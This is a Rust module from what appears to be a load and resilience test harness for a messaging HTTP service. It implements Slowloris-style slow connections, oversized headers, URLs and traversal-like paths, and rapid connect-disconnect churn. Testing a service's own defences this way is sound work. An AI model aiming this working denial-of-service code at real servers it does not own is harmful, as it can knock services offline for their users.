//! Attacks by HTTP/1.1 and by raw TCP connections.

use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::{answer, upgrade};
use crate::trial::AttackContext;

/// Slowloris and its variants: no data, half a header block, half a body, half a handshake; then one more byte every
/// two seconds.
pub async fn unfinished(context: &AttackContext) {
    const BEGINNINGS: [&[u8]; 5] = [
        b"",
        b"GET /v1/channels/a HTTP/1.1\r\nHost: attack\r\nX-A: ",
        b"POST /v1/channels/a HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000000\r\n\r\n{",
        b"POST /v1/publish HTTP/1.1\r\nHost: attack\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n",
    ];
    let lanes = if context.full { 10_000.min(context.connections) } else { context.connections };
    context
        .again(lanes, async |lane| {
            let mut stream = context.connect(lane).await?;
            stream.write_all(BEGINNINGS[lane % BEGINNINGS.len()]).await?;
            context.done(1);
            loop {
                tokio::time::sleep(Duration::from_secs(2)).await;
                stream.write_all(b"1").await?;
            }
        })
        .await;
}

/// Sends long URLs, many headers and many parameters, up to the maximum header size and above it.
pub async fn large_heads(context: &AttackContext) {
    let get = |path: String, headers: String| format!("GET {path} HTTP/1.1\r\nHost: attack\r\n{headers}\r\n");
    let requests = [
        get("/v1/channels/".to_owned() + &"a".repeat(60_000), String::new()),
        get("/".to_owned() + &"%2e%2e/".repeat(20_000), String::new()),
        get("/v1/stream?".to_owned() + &parts(|i| format!("channel=c{i}&"), 60_000), String::new()),
        get(
            "/v1/stream?channel=a".to_owned(),
            format!("Last-Event-ID: {}\r\n", parts(|i| format!("a@1:{i},"), 60_000)),
        ),
        get("/healthz".to_owned(), parts(|i| format!("X-{i}: a\r\n"), 60_000)),
        get("/healthz".to_owned(), parts(|i| format!("X-{i}: a\r\n"), 200_000)),
        get("/v1/channels/a".to_owned(), format!("Accept: {}\r\n", "a/b;q=0.1,".repeat(6_000))),
        get("/v1/channels/a".to_owned(), format!("Accept-Encoding: {}\r\n", "gzip,".repeat(12_000))),
    ];
    context
        .again(16, async |lane| {
            for request in requests.iter().cycle().skip(lane).take(requests.len()) {
                let mut stream = context.connect(lane).await?;
                stream.write_all(request.as_bytes()).await?;
                let _ = answer(&mut stream).await;
                context.done(1);
            }
            Ok(())
        })
        .await;
}

/// Connects and disconnects: at once, after a request, after a handshake, or during the response.
pub async fn churn(context: &AttackContext) {
    context
        .again(64, async |lane| {
            let mut stream = context.connect(lane).await?;
            match lane % 4 {
                0 => {}
                1 => stream.write_all(b"GET /v1/channels/a?wait=30 HTTP/1.1\r\nHost: attack\r\n\r\n").await?,
                2 => upgrade(&mut stream, "/v1/channels/churn", "").await?,
                _ => {
                    stream
                        .write_all(b"GET /v1/channels/a HTTP/1.1\r\nHost: attack\r\nAccept: text/event-stream\r\n\r\n")
                        .await?
                }
            }
            context.done(1);
            Ok(())
        })
        .await;
}

/// Returns numbered parts with a total length of at most `bytes`.
fn parts(part: impl Fn(usize) -> String, bytes: usize) -> String {
    let mut text = String::new();
    for part in (0..).map(part) {
        if text.len() + part.len() > bytes {
            break;
        }
        text.push_str(&part);
    }
    text
}
